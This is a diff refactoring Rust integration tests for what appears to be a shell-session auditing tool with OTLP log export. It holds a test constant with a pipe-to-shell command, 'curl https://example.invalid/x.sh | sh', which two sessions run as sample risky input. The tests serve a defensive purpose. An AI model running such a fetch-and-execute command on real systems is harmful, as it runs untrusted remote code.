@@ -7,13 +7,13 @@
 use std::io::{Read, Write};
 use std::net::{TcpListener, TcpStream, UdpSocket};
 use std::os::unix::net::UnixDatagram;
-use std::path::PathBuf;
+use std::path::{Path, PathBuf};
 use std::sync::{Arc, Mutex};
 use std::time::{Duration, Instant};
 
 use serde_json::Value;
 
-use crate::util::{Env, Session};
+use crate::util::{Env, Running, Session};
 
 const PIPE_TO_SHELL: &str = "curl https://example.invalid/x.sh | sh";
 /// A word that would break a naive JSON or syslog writer.
@@ -538,14 +538,14 @@ fn seqs_received(rx: &OtlpReceiver) -> Vec<u64> {
         .collect()
 }
 
-#[test]
-fn follow_streams_a_running_session_until_it_ends() {
-    let env = Env::with_policy("", RULES);
-    let go = env.root().join("go");
+/// A running session whose script waits (at most 15 s) for the file
+/// `go` to appear, then runs `then`; returned once its log has `lines`
+/// lines.
+fn session_waiting_for(env: &Env, go: &Path, then: &str, lines: usize) -> (Running, Session) {
     env.write(
         &env.work().join("s.sh"),
         &format!(
-            "i=0\nwhile [ ! -e '{}' ] && [ $i -lt 300 ]; do sleep 0.05; i=$((i+1)); done\nbash -c 'exit 0'\nbash -c \"{PIPE_TO_SHELL}\"\nexit 0\n",
+            "i=0\nwhile [ ! -e '{}' ] && [ $i -lt 300 ]; do sleep 0.05; i=$((i+1)); done\n{then}exit 0\n",
             go.display()
         ),
     );
@@ -564,11 +564,23 @@ fn follow_streams_a_running_session_until_it_ends() {
             session = env.sessions().pop();
             session
                 .as_ref()
-                .is_some_and(|s| s.log_path().exists() && s.log_text().lines().count() >= 2)
+                .is_some_and(|s| s.log_path().exists() && s.log_text().lines().count() >= lines)
         }),
         "the session did not start"
     );
-    let session = session.unwrap();
+    (run, session.unwrap())
+}
+
+#[test]
+fn follow_streams_a_running_session_until_it_ends() {
+    let env = Env::with_policy("", RULES);
+    let go = env.root().join("go");
+    let (run, session) = session_waiting_for(
+        &env,
+        &go,
+        &format!("bash -c 'exit 0'\nbash -c \"{PIPE_TO_SHELL}\"\n"),
+        2,
+    );
     let rx = OtlpReceiver::start(200, "{}", None);
     let export = env.spawn(&[
         "audit",
@@ -850,31 +862,8 @@ fn otlp_export_takes_its_endpoint_and_headers_from_the_otel_variables() {
 fn follow_keeps_trying_a_collector_that_fails_for_a_while() {
     let env = Env::with_policy("", RULES);
     let go = env.root().join("go");
-    env.write(
-        &env.work().join("s.sh"),
-        &format!(
-            "i=0\nwhile [ ! -e '{}' ] && [ $i -lt 300 ]; do sleep 0.05; i=$((i+1)); done\nbash -c \"{PIPE_TO_SHELL}\"\nexit 0\n",
-            go.display()
-        ),
-    );
-    let run = env.spawn(&[
-        "run",
-        "--profile",
-        "shims-only",
-        "--quiet",
-        "--",
-        "sh",
-        "s.sh",
-    ]);
-    let mut session = None;
-    assert!(
-        wait_for(Duration::from_secs(20), || {
-            session = env.sessions().pop();
-            session.as_ref().is_some_and(|s| s.log_path().exists())
-        }),
-        "the session did not start"
-    );
-    let session = session.unwrap();
+    let (run, session) =
+        session_waiting_for(&env, &go, &format!("bash -c \"{PIPE_TO_SHELL}\"\n"), 1);
     // Three 503s: 0.25 + 0.5 + 1 s of backoff, then it takes everything.
     let rx = OtlpReceiver::start_failing_first(3);
     let export = env.spawn(&[
